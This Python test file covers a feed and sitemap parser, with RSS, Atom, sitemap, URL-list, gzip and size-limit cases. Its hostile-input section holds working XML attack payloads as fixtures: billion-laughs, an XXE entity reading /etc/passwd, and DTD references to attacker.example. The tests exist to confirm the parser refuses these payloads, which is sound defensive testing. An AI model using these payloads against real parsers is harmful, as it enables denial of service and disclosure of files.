"""Feeds, sitemaps and URL lists -> `Discovery` (normalizers.feeds)."""

from __future__ import annotations

import dataclasses
import gzip
import pickle
import tracemalloc
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from normalizers import feeds
from normalizers.feeds import Discovery, Entry, FeedError, parse_feed, parse_url_list
from normalizers.urls import canonical_url


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0, micro: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, second, micro, tzinfo=UTC)


def urls(found: Discovery) -> list[str]:
    return [entry.url for entry in found.entries]


# --- RSS ----------------------------------------------------------------------------------

RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0">
  <channel>
    <title>Daily News</title>
    <link>https://news.example.com/</link>
    <atom:link href="https://news.example.com/feed" rel="self" type="application/rss+xml"/>
    <language>en-us</language>
    <item>
      <title>Markets &amp; money: rates held</title>
      <link>https://news.example.com/2024/03/05/rates?utm_source=rss&amp;utm_medium=feed</link>
      <pubDate>Tue, 05 Mar 2024 10:00:00 GMT</pubDate>
      <content:encoded><![CDATA[<p>Body <a href="https://elsewhere.example/">link</a></p>]]></content:encoded>
    </item>
    <item>
      <title><![CDATA[Storm <b>warning</b> &#8217;s issued]]></title>
      <link>
        /2024/03/05/storm
      </link>
      <pubDate>5 Mar 2024 09:30:00 +0100</pubDate>
    </item>
    <item>
      <title>No seconds, US zone, no weekday</title>
      <link>https://news.example.com/c</link>
      <pubDate>05 Mar 2024 10:00 EST</pubDate>
    </item>
    <item>
      <title>Two-digit year</title>
      <link>https://news.example.com/d</link>
      <pubDate>Tue, 05 Mar 24 10:00:00 Z</pubDate>
    </item>
    <item>
      <title>Dublin Core date</title>
      <link>https://news.example.com/e</link>
      <dc:date>2024-03-05T12:00:00+02:00</dc:date>
    </item>
    <item>
      <title>Permalink guid only</title>
      <guid>https://news.example.com/f</guid>
      <pubDate>yesterday-ish</pubDate>
    </item>
    <item>
      <title>Opaque guid only</title>
      <guid isPermaLink="false">urn:uuid:1234</guid>
    </item>
    <item>
      <title>FeedBurner</title>
      <link>https://feeds.feedburner.com/~r/daily/~3/abc/</link>
      <feedburner:origLink>https://news.example.com/g</feedburner:origLink>
    </item>
    <item>
      <title>Same as the first, other tracking</title>
      <link>https://NEWS.example.com:443/2024/03/05/rates?fbclid=xyz#comments</link>
    </item>
    <item><title>Mail</title><link>mailto:desk@news.example.com</link></item>
    <item><title>Script</title><link>javascript:alert(1)</link></item>
  </channel>
</rss>
"""


def test_rss_entries_dates_and_links() -> None:
    found = parse_feed(RSS, "https://news.example.com/feed")
    assert found.kind == "rss"
    assert found.sitemaps == ()
    assert urls(found) == [
        "https://news.example.com/2024/03/05/rates?utm_source=rss&utm_medium=feed",
        "https://news.example.com/2024/03/05/storm",
        "https://news.example.com/c",
        "https://news.example.com/d",
        "https://news.example.com/e",
        "https://news.example.com/f",
        "https://news.example.com/g",
    ]
    dates = [entry.published_at for entry in found.entries]
    assert dates == [
        utc(2024, 3, 5, 10),
        utc(2024, 3, 5, 8, 30),
        utc(2024, 3, 5, 15),
        utc(2024, 3, 5, 10),
        utc(2024, 3, 5, 10),
        None,
        None,
    ]
    assert all(entry.source == "rss" and entry.language is None for entry in found.entries)
    titles = [entry.title for entry in found.entries]
    assert titles[0] == "Markets & money: rates held"
    assert titles[1] == "Storm warning ’s issued"  # markup and the entity inside CDATA undone
    assert len(found.skipped) == 3
    assert found.skipped[0].startswith("item 7: no URL")
    assert "mailto:" in found.skipped[1] and "javascript:" in found.skipped[2]
    assert len(found.duplicates) == 1 and found.duplicates[0].startswith("item 9: duplicate URL")
    assert found.notes == ("item 6: pubDate 'yesterday-ish' is not a date (1995..2100), ignored",)


def test_rss_relative_link_without_base_is_skipped_not_dropped() -> None:
    found = parse_feed(RSS)
    assert "https://news.example.com/2024/03/05/storm" not in urls(found)
    assert any(
        reason.startswith("item 2: relative URL '/2024/03/05/storm' without a base URL") for reason in found.skipped
    )
    # Every item ends somewhere: kept, skipped or a duplicate.
    assert len(found.entries) + len(found.skipped) + len(found.duplicates) == RSS.count(b"<item>")


def test_rss_1_0_rdf() -> None:
    rdf = b"""<?xml version="1.0"?>
    <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
             xmlns:dc="http://purl.org/dc/elements/1.1/">
      <channel rdf:about="https://blog.example.org/">
        <title>Blog</title><link>https://blog.example.org/</link>
        <items><rdf:Seq><rdf:li rdf:resource="https://blog.example.org/one"/></rdf:Seq></items>
      </channel>
      <item rdf:about="https://blog.example.org/one">
        <title>One</title><link>https://blog.example.org/one</link><dc:date>2024-01-02T03:04:05Z</dc:date>
      </item>
      <item rdf:about="https://blog.example.org/two"><title>Two (about only)</title></item>
    </rdf:RDF>"""
    found = parse_feed(rdf)
    assert found.kind == "rss"
    assert found.entries == (
        Entry("https://blog.example.org/one", "One", utc(2024, 1, 2, 3, 4, 5), source="rss"),
        Entry("https://blog.example.org/two", "Two (about only)", source="rss"),
    )


def test_rss_with_default_namespace_and_xml_base() -> None:
    doc = b"""<rss xmlns="http://backend.userland.com/rss2" version="2.0"><channel
    xml:base="https://base.example/section/"><item><link>story-1</link><title>S1</title></item></channel></rss>"""
    found = parse_feed(doc)
    assert found.entries == (Entry("https://base.example/section/story-1", "S1", source="rss"),)


# --- Atom ---------------------------------------------------------------------------------

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://www.example.net/blog/" xml:lang="de">
  <title>Example</title>
  <link rel="self" href="feed.atom"/>
  <id>tag:example.net,2024:feed</id>
  <updated>2024-03-06T08:00:00Z</updated>
  <entry>
    <title type="html">Zinsen &amp;amp; &lt;em&gt;Inflation&lt;/em&gt;</title>
    <link rel="edit" href="/api/posts/1"/>
    <link rel="alternate" type="text/html" href="2024/zinsen"/>
    <link rel="enclosure" href="https://cdn.example.net/a.mp3"/>
    <id>tag:example.net,2024:1</id>
    <published>2024-03-05T10:00:00+01:00</published>
    <updated>2024-03-06T07:30:00Z</updated>
  </entry>
  <entry xml:base="/archive/">
    <title>Relative to the entry's own base</title>
    <link href="old-story"/>
    <id>tag:example.net,2024:2</id>
    <updated>2024-03-04</updated>
  </entry>
  <entry>
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">An <b>XHTML</b> title</div></title>
    <link rel="alternate" type="application/pdf" href="https://www.example.net/report.pdf"/>
    <link rel="alternate" href="https://www.example.net/report"/>
    <id>https://www.example.net/report-id</id>
  </entry>
  <entry>
    <title>Permalink id, no link</title>
    <id>https://www.example.net/by-id</id>
  </entry>
  <entry>
    <title>Nothing to link to</title>
    <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  </entry>
</feed>
"""


def test_atom_links_bases_and_dates() -> None:
    found = parse_feed(ATOM, "https://www.example.net/feed.atom")
    assert found.kind == "atom"
    assert found.entries == (
        Entry(
            "https://www.example.net/blog/2024/zinsen",
            "Zinsen & Inflation",
            published_at=utc(2024, 3, 5, 9),
            modified_at=utc(2024, 3, 6, 7, 30),
            source="atom",
        ),
        Entry(
            "https://www.example.net/archive/old-story",
            "Relative to the entry's own base",
            modified_at=utc(2024, 3, 4),
            source="atom",
        ),
        Entry("https://www.example.net/report", "An XHTML title", source="atom"),
        Entry("https://www.example.net/by-id", "Permalink id, no link", source="atom"),
    )
    assert found.skipped == ("entry 5: no URL",)


def test_atom_xml_base_alone_resolves_without_base_url() -> None:
    # The feed's own absolute xml:base is enough; no fetch URL needed.
    assert urls(parse_feed(ATOM))[0] == "https://www.example.net/blog/2024/zinsen"


def test_atom_0_3() -> None:
    doc = b"""<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>Old</title>
    <link rel="alternate" type="text/html" href="https://old.example/x"/>
    <issued>2005-07-31T12:29:29Z</issued><modified>2005-08-01T00:00:00Z</modified></entry></feed>"""
    (entry,) = parse_feed(doc).entries
    assert entry == Entry("https://old.example/x", "Old", utc(2005, 7, 31, 12, 29, 29), utc(2005, 8, 1), source="atom")


# --- Sitemaps -----------------------------------------------------------------------------

URLSET = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"
        xmlns:xhtml="http://www.w3.org/1999/xhtml">
  <url><loc>https://shop.example.com/</loc><lastmod>2024-03-01</lastmod><priority>1.0</priority></url>
  <url>
    <loc>https://shop.example.com/news/a</loc>
    <lastmod>2024-03-05T10:15:30+01:00</lastmod>
    <changefreq>daily</changefreq>
    <image:image><image:loc>https://cdn.example.com/a.jpg</image:loc></image:image>
    <xhtml:link rel="alternate" hreflang="de" href="https://shop.example.com/de/news/a"/>
  </url>
  <url><loc>https://shop.example.com/news/b</loc><lastmod>2024-03-05T10:15:30.123456789Z</lastmod></url>
  <url><loc>https://shop.example.com/news/c</loc><lastmod>2024-03</lastmod></url>
  <url><loc>https://shop.example.com/news/d</loc><lastmod>1970-01-01T00:00:00+00:00</lastmod></url>
  <url><loc>https://shop.example.com/news/with space</loc></url>
  <url><loc>ftp://shop.example.com/file</loc></url>
  <url><lastmod>2024-03-05</lastmod></url>
</urlset>
"""


def test_urlset_lastmod_forms() -> None:
    found = parse_feed(URLSET)
    assert found.kind == "urlset"
    assert [(e.url, e.modified_at) for e in found.entries] == [
        ("https://shop.example.com/", utc(2024, 3, 1)),
        ("https://shop.example.com/news/a", utc(2024, 3, 5, 9, 15, 30)),
        ("https://shop.example.com/news/b", utc(2024, 3, 5, 10, 15, 30, 123456)),
        ("https://shop.example.com/news/c", utc(2024, 3, 1)),
        ("https://shop.example.com/news/d", None),
        ("https://shop.example.com/news/with%20space", None),
    ]
    assert all(e.source == "sitemap" and e.published_at is None and e.title is None for e in found.entries)
    assert [reason.split(":")[0] for reason in found.skipped] == ["url 7", "url 8"]
    assert found.notes == ("url 5: lastmod '1970-01-01T00:00:00+00:00' is not a date (1995..2100), ignored",)


def test_urlset_without_namespace() -> None:
    found = parse_feed(b"<urlset><url><loc>https://a.example/x</loc></url></urlset>")
    assert urls(found) == ["https://a.example/x"]


NEWS_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
  <url>
    <loc>https://www.example.org/business/article55.html</loc>
    <lastmod>2024-03-05T12:00:00Z</lastmod>
    <news:news>
      <news:publication><news:name>The Example Times</news:name><news:language>en</news:language></news:publication>
      <news:publication_date>2024-03-05T11:00:00+01:00</news:publication_date>
      <news:title>Companies A, B in Merger Talks</news:title>
      <news:keywords>business, merger</news:keywords>
    </news:news>
  </url>
  <url>
    <loc>https://www.example.org/sport/article56.html</loc>
    <news:news>
      <news:publication><news:name>The Example Times</news:name><news:language>zh-tw</news:language></news:publication>
      <news:publication_date>2024-03-05</news:publication_date>
      <news:title>Final score</news:title>
    </news:news>
  </url>
  <url><loc>https://www.example.org/about</loc></url>
</urlset>
"""


def test_news_sitemap() -> None:
    found = parse_feed(NEWS_SITEMAP)
    assert found.kind == "urlset"
    assert found.entries == (
        Entry(
            "https://www.example.org/business/article55.html",
            "Companies A, B in Merger Talks",
            published_at=utc(2024, 3, 5, 10),
            modified_at=utc(2024, 3, 5, 12),
            language="en",
            source="news-sitemap",
        ),
        Entry(
            "https://www.example.org/sport/article56.html",
            "Final score",
            published_at=utc(2024, 3, 5),
            language="zh",
            source="news-sitemap",
        ),
        Entry("https://www.example.org/about", source="sitemap"),
    )
    assert found.skipped == () and found.notes == ()


SITEMAP_INDEX = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://www.example.com/sitemap-news.xml</loc><lastmod>2024-03-05T10:00:00Z</lastmod></sitemap>
  <sitemap><loc>/sitemap-2024-02.xml.gz</loc><lastmod>2024-03-01</lastmod></sitemap>
  <sitemap><loc>https://www.example.com/sitemap-news.xml#dup</loc></sitemap>
</sitemapindex>
"""


def test_sitemap_index() -> None:
    found = parse_feed(SITEMAP_INDEX, "https://www.example.com/sitemap.xml")
    assert found.kind == "sitemapindex"
    assert found.entries == ()
    assert found.sitemaps == (
        Entry("https://www.example.com/sitemap-news.xml", modified_at=utc(2024, 3, 5, 10), source="sitemap"),
        Entry("https://www.example.com/sitemap-2024-02.xml.gz", modified_at=utc(2024, 3, 1), source="sitemap"),
    )
    assert found.skipped == () and len(found.duplicates) == 1 and "duplicate" in found.duplicates[0]


def test_gzip_sitemap() -> None:
    assert parse_feed(gzip.compress(NEWS_SITEMAP)) == parse_feed(NEWS_SITEMAP)


def test_gzip_bomb_is_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feeds, "MAX_BYTES", 10_000)
    bomb = gzip.compress(b"<urlset>" + b" " * 1_000_000 + b"</urlset>")
    assert len(bomb) < 10_000
    with pytest.raises(FeedError) as caught:
        parse_feed(bomb)
    assert caught.value.reason == "too_large"


@pytest.mark.parametrize("raw", [b"\x1f\x8bnot gzip at all", gzip.compress(URLSET)[:-20]], ids=["corrupt", "truncated"])
def test_broken_gzip_is_malformed(raw: bytes) -> None:
    with pytest.raises(FeedError) as caught:
        parse_feed(raw)
    assert caught.value.reason == "malformed"


# --- Limits -------------------------------------------------------------------------------


def _rss_items(*items: tuple[str, str | None]) -> bytes:
    """An RSS feed of (path, pubDate or None) items on news.example.com."""
    dated = {path: f"<pubDate>{when}</pubDate>" if when else "" for path, when in items}
    body = "".join(f"<item><link>https://news.example.com/{path}</link>{date}</item>" for path, date in dated.items())
    return f"<rss version='2.0'><channel>{body}</channel></rss>".encode()


def test_a_feed_past_the_cap_keeps_its_newest_entries_in_document_order() -> None:
    doc = _rss_items(
        ("undated-1", None),
        ("jan", "Mon, 01 Jan 2024 00:00:00 GMT"),
        ("mar-a", "Fri, 01 Mar 2024 00:00:00 GMT"),
        ("undated-2", None),
        ("feb", "Thu, 01 Feb 2024 00:00:00 GMT"),
        ("mar-b", "Fri, 01 Mar 2024 00:00:00 GMT"),  # ties with mar-a: document order decides
    )
    assert [u.rsplit("/", 1)[1] for u in urls(parse_feed(doc, max_entries=2))] == ["mar-a", "mar-b"]
    found = parse_feed(doc, max_entries=5)
    assert [u.rsplit("/", 1)[1] for u in urls(found)] == ["undated-1", "jan", "mar-a", "feb", "mar-b"]
    assert found.omitted == 1  # undated entries go before any dated one
    assert parse_feed(doc, max_entries=6).omitted == 0


def test_the_cap_counts_entries_not_elements() -> None:
    doc = b"<urlset>" + b"<url><loc>https://a.example/x</loc></url>" * 11 + b"</urlset>"
    found = parse_feed(doc, max_entries=1)  # eleven <url>, one entry (the rest are duplicates)
    assert (len(found.entries), found.omitted, len(found.duplicates)) == (1, 0, 10)


def test_a_sitemap_index_past_the_cap_keeps_its_newest_sitemaps() -> None:
    found = parse_feed(SITEMAP_INDEX, "https://www.example.com/sitemap.xml", max_entries=1)
    assert [s.url for s in found.sitemaps] == ["https://www.example.com/sitemap-news.xml"]  # lastmod 2024-03-05
    assert (found.entries, found.omitted) == ((), 1)


def test_too_many_elements(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feeds, "MAX_ELEMENTS", 1_000)
    with pytest.raises(FeedError) as caught:
        parse_feed(b"<urlset>" + b"<a/>" * 1_001 + b"</urlset>")
    assert caught.value.reason == "too_large"


def test_raw_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feeds, "MAX_BYTES", 100)
    for parse in (parse_feed, parse_url_list):
        with pytest.raises(FeedError) as caught:
            parse(b"<urlset>" + b" " * 200 + b"</urlset>")
        assert caught.value.reason == "too_large"


# --- Hostile and wrong input ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><item><title>&lol9;</title><link>https://a.example/x</link></item></channel></rss>
"""
XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<urlset><url><loc>https://a.example/&xxe;</loc></url></urlset>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">
<urlset><url><loc>https://a.example/x</loc></url></urlset>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<rss><channel/></rss>
"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY, gzip.compress(BILLION_LAUGHS)],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity", "gzipped-billion-laughs"],
)
def test_entities_refused_before_any_expansion(doc: bytes) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(FeedError) as caught:
            parse_feed(doc)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 2**20  # ~40 KB to parse the declarations; the laughs expand to 3 GB
    assert caught.value.reason == "entities"
    assert "root:" not in str(caught.value)  # nothing of /etc/passwd leaks into the message


@pytest.mark.parametrize(
    "doc",
    [
        b"",
        b"   ",
        b"<rss><channel><item><link>https://a.example/</item></channel></rss>",
        b"<?xml version='1.0'?><urlset><url><loc>x</loc></url>",
        b"just some text",
        b'<?xml version="1.0" encoding="no-such-codec"?><rss/>',
        b"\x00\x01\x02",
    ],
    ids=["empty", "blank", "unclosed", "truncated", "text", "unknown-encoding", "binary"],
)
def test_malformed(doc: bytes) -> None:
    with pytest.raises(FeedError) as caught:
        parse_feed(doc)
    assert caught.value.reason == "malformed"


@pytest.mark.parametrize(
    "doc",
    [
        b"<!DOCTYPE html>\n<html lang='en'><head><title>Home</title></head><body><p>Hi<br></body></html>",
        b"\xef\xbb\xbf  <!-- generated --><HTML><body>Hello</body></HTML>",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        b"<opml version='2.0'><body/></opml>",
    ],
    ids=["html5", "html-uppercase-bom", "xhtml", "svg", "opml"],
)
def test_unknown_format(doc: bytes) -> None:
    with pytest.raises(FeedError) as caught:
        parse_feed(doc)
    assert caught.value.reason == "unknown_format"


def test_single_byte_and_multi_byte_encodings() -> None:
    title = "ニュース速報"
    doc = f'<?xml version="1.0" encoding="Shift_JIS"?><rss><channel><item><title>{title}</title><link>https://jp.example/1</link></item></channel></rss>'
    assert parse_feed(doc.encode("shift_jis")).entries[0].title == title
    latin = '<?xml version="1.0" encoding="windows-1252"?><rss><channel><item><title>Café “x”</title><link>https://fr.example/1</link></item></channel></rss>'
    assert parse_feed(latin.encode("cp1252")).entries[0].title == "Café “x”"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><urlset><url><loc>https://a.example/ü</loc></url></urlset>'
    assert urls(parse_feed(utf16.encode("utf-16"))) == ["https://a.example/ü"]


def test_feed_error_is_a_value_error_and_pickles() -> None:
    error = FeedError("too_large", "big")
    assert isinstance(error, ValueError)
    copy = pickle.loads(pickle.dumps(error))
    assert (copy.reason, str(copy)) == ("too_large", "too_large: big")


def test_results_are_frozen() -> None:
    found = parse_feed(NEWS_SITEMAP)
    with pytest.raises(dataclasses.FrozenInstanceError):
        found.entries[0].url = "https://evil.example/"  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        found.kind = "rss"  # type: ignore[misc]


SAMPLES = [RSS, ATOM, URLSET, NEWS_SITEMAP, SITEMAP_INDEX, BILLION_LAUGHS, XXE]


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2_000))
def test_random_bytes_give_discovery_or_feed_error(raw: bytes) -> None:
    _parse_or_feed_error(raw)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(SAMPLES), st.integers(0, 5_000), st.integers(0, 5_000), st.binary(max_size=20))
def test_mangled_documents_give_discovery_or_feed_error(doc: bytes, start: int, stop: int, junk: bytes) -> None:
    # Cut a real document and splice bytes in: near-valid input reaches the deeper code paths.
    _parse_or_feed_error(doc[:start] + junk + doc[stop:])
    _parse_or_feed_error(gzip.compress(doc)[: start + 10])


def _parse_or_feed_error(raw: bytes) -> None:
    try:
        found = parse_feed(raw, "https://base.example/dir/")
    except FeedError as exc:
        assert exc.reason in ("entities", "malformed", "unknown_format", "too_large")
        return
    assert isinstance(found, Discovery)
    for entry in found.entries + found.sitemaps:
        assert entry.url.startswith(("http://", "https://"))
        assert canonical_url(entry.url)  # every kept URL has an identity


# --- URL lists ----------------------------------------------------------------------------


def test_url_list() -> None:
    raw = (
        "\ufeff# exported 2024-03-05\n"
        "https://news.example.com/a\n"
        "\n"
        "   https://news.example.com/b   \r\n"
        "\t# indented comment\n"
        "/relative/c\n"
        "ftp://files.example.com/x\n"
        "not a url at all\n"
        "https://news.example.com/a?utm_campaign=list\n"
        "https://news.example.com/ü\n"
    ).encode()
    found = parse_url_list(raw, "https://news.example.com/list.txt")
    assert found.kind == "urls"
    assert urls(found) == [
        "https://news.example.com/a",
        "https://news.example.com/b",
        "https://news.example.com/relative/c",
        "https://news.example.com/ü",
    ]
    assert all(entry.source == "urls" for entry in found.entries)
    assert [reason.split(":")[0] for reason in found.skipped] == ["line 7", "line 8"]
    assert "not an http(s) URL" in found.skipped[0]
    assert "not a single URL" in found.skipped[1]
    assert found.duplicates == ("line 9: duplicate URL 'https://news.example.com/a?utm_campaign=list'",)


def test_url_list_without_base_and_latin1() -> None:
    found = parse_url_list(b"https://a.example/caf\xe9\nrelative\n")
    assert urls(found) == ["https://a.example/café"]
    assert found.skipped == ("line 2: relative URL 'relative' without a base URL",)


def test_url_list_past_the_cap_keeps_its_first_urls() -> None:
    found = parse_url_list(b"https://a.example/1\nhttps://a.example/2\nhttps://a.example/3\n", max_entries=2)
    assert (urls(found), found.omitted) == (["https://a.example/1", "https://a.example/2"], 1)


def test_gzip_members_are_inflated_whatever_their_number_with_padding_skipped_and_each_failure_named() -> None:
    """A stream of many tiny members (as a hostile server may send) is read whole; the cap and the cuts hold."""
    from normalizers.inflate import GzipError, inflate_members

    body = gzip.compress(b"<urlset>") + b"\x00" * 1000 + gzip.compress(b"</urlset>")
    many = gzip.compress(b"") * 50_000 + body + b"trailing bytes"
    got = inflate_members(many, 1 << 20)
    assert (got.data, got.trailing) == (b"<urlset></urlset>", len(b"trailing bytes"))
    with pytest.raises(GzipError) as cut:
        inflate_members(body[:-6], 1 << 20)
    assert cut.value.kind == "truncated"
    with pytest.raises(GzipError) as big:
        inflate_members(gzip.compress(b"x" * 10_000), 9_999)
    assert big.value.kind == "too_large"
    with pytest.raises(GzipError) as bad:
        inflate_members(b"\x1f\x8b" + b"\xff" * 40, 1 << 20)
    assert bad.value.kind == "corrupt"
